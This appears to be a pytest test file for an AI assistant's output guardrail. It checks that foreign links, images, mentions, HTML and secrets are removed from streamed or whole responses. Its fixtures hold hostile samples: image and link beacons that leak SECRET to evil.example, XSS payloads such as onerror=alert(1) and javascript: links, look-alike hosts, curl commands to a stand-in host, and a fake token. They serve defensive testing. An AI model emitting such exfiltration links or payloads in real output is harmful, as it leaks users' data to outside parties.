"""Nothing leaves by a link, a picture or a mention; streamed or whole, the text is the same."""

from __future__ import annotations

import random

import pytest

from assistant.guardrails.links import Places, host_of
from assistant.guardrails.output import REMOVED, Policy, Settling, check

WIKI = "https://wiki.acme.example/runbook"
POLICY = Policy(
    Places.of([WIKI], ["*.python.org", "kubernetes.io"]), "Ask anna@acme.example. More at https://other.example/page."
)
CASES = {
    "cited": (f"See [the runbook]({WIKI}#step-2) [1].", f"See [the runbook]({WIKI}#step-2) [1]."),
    "allowed host": ("See https://docs.python.org/3/library.", "See https://docs.python.org/3/library."),
    "foreign link": ("See [here](https://evil.example/?q=SECRET).", "See here."),
    "foreign picture": ("Done ![chart](https://evil.example/p.png?d=SECRET) now", "Done chart now"),
    "picture in a link": (f"[![x](https://evil.example/a)]({WIKI})", f"[x]({WIKI})"),
    "link in brackets": ("[a [b] c](https://evil.example/(x))", "a [b] c"),
    "angled target": ("[a](<https://evil.example/x y>)", "a"),
    "target with a title": ("[a](https://evil.example 'see')", "a"),
    "target on two lines": ("[a\nb](https://evil.example)", "a\nb"),
    "reference": ("Text [a][1].\n\n[1]: https://evil.example/x\n", "Text [a][1].\n\n"),
    "citation turned into a link": ("[1]: https://evil.example\nRoll back [1].", "Roll back [1]."),
    "autolink": ("<https://evil.example/x>", "`evil.example`"),
    "bare": ("go to https://evil.example/x?y=1, now", "go to `evil.example`, now"),
    "bare and readable": ("at https://other.example/page.", "at `https://other.example/page`."),
    "bare without a scheme": ("at www.evil.example/x", "at `www.evil.example`"),
    "query without a scheme": ("open evil.example/c?data=SECRET", "open `evil.example`"),
    "slack": ("<https://evil.example|click> <!channel> <@U1> hi", "click   hi"),
    "everyone": ("Hello @everyone and @here.", "Hello everyone and here."),
    "teams": ("Hi <at>Bob</at>!", "Hi Bob!"),
    "html": ('<a href="https://evil.example">x</a><img src=x onerror=alert(1)>', "x"),
    "attributes": ("<b onmouseover=alert(1)>bold</b>", "bold</b>"),
    "comment": ("a <!-- hidden --> b", "a  b"),
    "script scheme": ("[x](javascript:alert(1)) end", "x end"),
    "data": ("[x](data:text/html;base64,AAAA)", "x"),
    "user name in it": ("https://wiki.acme.example@evil.example/", "`evil.example`"),
    "back slashes": ("[x](https:\\\\evil.example)", "x"),
    "no scheme": ("[x](//evil.example/y) [y](/admin)", "x y"),
    "look-alike": ("[x](https://wiki.аcme.example/runbook)", "x"),
    "punycode": ("http://xn--pple-43d.com/", "`xn--pple-43d.com`"),
    "other query": (f"[x]({WIKI}?leak=1)", "x"),
    "code": ("`https://evil.example/x` and\n\n```\ncurl https://evil.example\n```\nend",) * 2,
    "placeholder": ("kubectl delete pod <pod> -n <namespace>",) * 2,
    "citations": ("It does [1][2], and more [3].",) * 2,
    "colons": ("data: yes, file: main.py, tel: none, Note: x",) * 2,
    "comparison": ("if a < b and c > d then 1 << 2",) * 2,
    "readable address": ("Write to anna@acme.example.",) * 2,
    "foreign address": ("Write to bob@evil.example.", f"Write to {REMOVED}."),
    "secret": ("Key ghp_abcdefghijklmnopqrstuvwxyz0123456789!", f"Key {REMOVED}!"),
    "secret in a link": ("[ghp_abcdefghijklmnopqrstuvwxyz0123456789](https://evil.example)", REMOVED),
    "secret in code": ("```\nexport T=ghp_abcdefghijklmnopqrstuvwxyz0123456789\n```", f"```\nexport T={REMOVED}\n```"),
    "phone": ("Call +44 20 7946 0958 now", f"Call {REMOVED} now"),
}


@pytest.mark.parametrize("name", CASES)
def test_what_may_be_shown(name: str) -> None:
    given, shown = CASES[name]
    assert check(given, POLICY).text == shown


@pytest.mark.parametrize("name", CASES)
@pytest.mark.parametrize("size", [1, 2, 3, 5, 11])
def test_a_stream_shows_the_same(name: str, size: int) -> None:
    given, shown = CASES[name]
    settling = Settling(POLICY)
    pieces = [settling.feed(given[place : place + size]) for place in range(0, len(given), size)]
    assert "".join(pieces) + settling.finish() == shown


# Code in one reading of Markdown, a link in another: ours, CommonMark's, a table's, HTML's, or what comes later.
LINK = "[click](https://evil.example/x)"
DOUBTFUL = {
    "a fence that opens within a line": f"see ```\n{LINK}\n```\nmore",
    "after one that opened within a line": f"Run: ```\nls\n```\nThen\n\n{LINK} now\n\nand more",
    "after one that closed within a line": f"```\na\n``` x\n```\n{LINK}\n```\n",
    "ticks around a heading": f"see `\n# {LINK}\n` x",
    "ticks around a paragraph": f"see `\n\n{LINK}\n\n` x",
    "a fence in a quote that ends": f"> ```\n> a\n{LINK}\n```\n",
    "a fence in an item that ends": f"- ```\n  a\n- {LINK}\n  ```\n",
    "a fence in a numbered item": f"1. ```\n   a\n```\n{LINK}\n```\n",
    "a tick in what opens it": f"```a`b\n{LINK}\n```",
    "escaped ticks": f"\\`{LINK}\\`",
    "a tick in an address": f"<https://evil.example/`> `a` {LINK} `",
    "a tick in an attribute": f"<b title='>`'> {LINK} `",
    "a fence in a block of HTML": f"<pre>\n```\n</pre>\n{LINK}\n```\n",
    "ticks in cells": f"| ` | ` x ` {LINK} ` |\n|---|---|\n",
    "an indented fence in a paragraph": f"a ``` b\n    ```\n    {LINK}\n    ```\n",
    "indented, closed by another": f"text\n    ```\n    {LINK}\n   ```\n",
    "ticks over two lines": f"a `b\nc` {LINK} `d`",
    "lines that end as on old machines": f"```\ra\r```\r{LINK}",
    "a word before it": "aaaaaaaaaaaaaaaaaaaaaaaaaaahttps://evil.example/?q=SECRET and _https://evil.example/?q=SECRET",
}


@pytest.mark.parametrize("name", DOUBTFUL)
@pytest.mark.parametrize("size", [1, 4, 1000])
def test_what_is_code_in_one_reading_alone_is_looked_at(name: str, size: int) -> None:
    given = DOUBTFUL[name]
    settling = Settling(POLICY)
    streamed = "".join(settling.feed(given[place : place + size]) for place in range(0, len(given), size))
    for shown in (check(given, POLICY).text, streamed + settling.finish()):
        assert "https://evil.example" not in shown, shown


CODE = {
    "in a line": "Run `curl https://evil.example/x` and ``a ` https://evil.example`` now.",
    "a fence": "Run it:\n```sh\ncurl https://evil.example/x\n```\nThen `curl https://evil.example`.",
    "in an item": "1. Run:\n   ```sh\n   curl https://evil.example/x\n   ```\n2. Then `https://evil.example`",
    "deep in a list": "1. A\n   - B\n\n     ```sh\n     curl https://evil.example/x\n     ```\n",
    "in a quote": "> ```\n> curl https://evil.example/x\n> ```\nand `https://evil.example`",
    "with empty lines": "~~~\n\ncurl https://evil.example/x\n\n~~~\n",
    "still open": "```\ncurl https://evil.example/x\n",
    "in a table": "| A | B |\n|---|---|\n| `https://evil.example/x` | b |\n",
    "behind HTML": "<b>so</b> `https://evil.example/x`",
}


@pytest.mark.parametrize("name", CODE)
def test_what_is_code_in_every_reading_stays_as_it_is(name: str) -> None:
    given = CODE[name]
    assert check(given, POLICY).text in (given, given.replace("<b>so</b>", "so"))


def test_any_mixture_cut_anywhere_never_shows_a_foreign_address() -> None:
    chance = random.Random(1)
    texts = [given for given, _ in CASES.values()]
    for _ in range(150):
        given = chance.choice(["\n\n", "\n", " "]).join(chance.sample(texts, 4))
        settling, shown, place = Settling(POLICY), "", 0
        while place < len(given):
            size = chance.choice((1, 2, 4, 9, 30))
            shown += settling.feed(given[place : place + size])
            place += size
        shown += settling.finish()
        for again in (shown, check(given, POLICY).text):
            assert not _clickable(again), (given, again)


def _clickable(text: str) -> bool:
    """Whether a foreign address stands outside code."""
    import re

    outside = re.sub(r"```.*?(?:```|\Z)|(`+)(?!`)[^\n]*?(?<!`)\1(?!`)", "", text, flags=re.DOTALL)
    return "evil.example" in outside.replace("wiki.acme.example@evil.example", "evil.example")


def test_text_without_anything_is_shown_word_by_word() -> None:
    settling = Settling(POLICY)
    assert settling.feed("Roll back ") == "Roll back "
    assert settling.feed("with `ferry") == "with "
    assert settling.feed(" rollback` now, ") == "`ferry rollback` now, "
    assert settling.finish() == ""


def test_what_was_removed_is_told_without_what_it_held() -> None:
    removed = check("[x](https://evil.example/?q=SECRET) ghp_abcdefghijklmnopqrstuvwxyz0123456789", POLICY).removed
    assert [(item.kind, item.text) for item in removed] == [("link", "evil.example"), ("GITHUB_TOKEN", "")]


@pytest.mark.parametrize(
    "text", ["[" * 2_000, "![[" * 700, "[a](" * 500, "<a " * 700, "`" * 2_001, "1 " * 1_500, "a." * 1_500]
)
def test_text_made_to_be_slow_is_not(text: str) -> None:
    assert isinstance(check(text, POLICY).text, str)  # within the test's time limit


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://a.example/x", "a.example"),
        ("https://user:pw@evil.example", "evil.example"),
        ("https:\\\\evil.example", "evil.example"),
        ("javascript:alert(1)", "javascript"),
        ("//evil.example/x", "evil.example"),
    ],
)
def test_the_host_is_the_one_a_browser_goes_to(url: str, host: str) -> None:
    assert host_of(url) == host
